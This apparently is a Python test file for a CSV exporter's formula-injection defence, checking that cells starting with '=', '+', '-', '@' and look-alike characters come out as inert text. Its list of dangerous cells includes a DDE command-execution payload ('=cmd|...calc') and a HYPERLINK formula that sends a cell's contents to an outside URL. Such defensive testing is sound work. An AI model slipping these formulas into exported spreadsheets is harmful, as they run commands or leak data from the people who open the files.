"""Comma-separated values, and cells that a spreadsheet must not run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reader.text.spreadsheets import BYTE_ORDER_MARK, csv_lines, defused

DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    '"=1',
    "'=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM",
    "−1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org?"&A1)',
]
HARMLESS = [
    "",
    "word",
    "a = b",
    "1-2",
    "reader@example.org",
    "¶ 12",
    "–",
    "— nothing",
    "a, -b",
    "x\ny",
]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_formula_becomes_text(cell: str) -> None:
    assert defused(cell).startswith("'")
    assert defused(cell).replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", HARMLESS)
def test_words_stay_as_they_are(cell: str) -> None:
    assert defused(cell) == cell


@pytest.mark.parametrize("between", [";", "\t", "\n", "\r\n", "\r", ";  ", '";"', "\n\n"])
def test_formula_behind_a_separator_becomes_text(between: str) -> None:
    safe = defused(f"words{between}=1+1")
    assert "'" in safe
    assert not safe.rpartition("'")[2].startswith(between)
    assert safe.replace("'", "") == f"words{between}=1+1".replace("'", "")


def test_table_is_read_back_as_it_was() -> None:
    rows = [["a", 'say "so"', "two\nlines"], ["=1", "", "ø, å"]]
    text = "".join(csv_lines(rows))
    assert list(csv.reader(io.StringIO(text, newline=""))) == rows


def test_table_for_spreadsheets_begins_with_a_mark_and_runs_nothing() -> None:
    text = "".join(csv_lines([["=1", "two\nlines"]], for_spreadsheets=True))
    assert text.startswith(BYTE_ORDER_MARK)
    assert list(csv.reader(io.StringIO(text[1:], newline=""))) == [["'=1", "two\nlines"]]


@given(st.lists(st.lists(st.text(), min_size=1, max_size=3), max_size=4))
def test_no_cell_begins_with_a_sign(rows: list[list[str]]) -> None:
    text = "".join(csv_lines(rows, for_spreadsheets=True))[1:]
    read = list(csv.reader(io.StringIO(text, newline="")))
    signs = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
    assert [len(row) for row in read] == [len(row) for row in rows]
    assert not any(cell.strip().startswith(signs) for row in read for cell in row)


FORMULAS = st.lists(st.sampled_from(["a", ";", "\t", '"', ",", "=1", "@", " ", "\n"]), max_size=8)


@given(st.lists(FORMULAS.map("".join), min_size=1, max_size=3), st.sampled_from(";\t"))
def test_no_cell_begins_with_a_sign_where_another_separator_is_taken(
    cells: list[str], separator: str
) -> None:
    text = "".join(csv_lines([cells], for_spreadsheets=True))[1:]
    for line in text.splitlines():
        for cell in line.split(separator):
            assert not cell.strip(' "').startswith(("=", "@"))
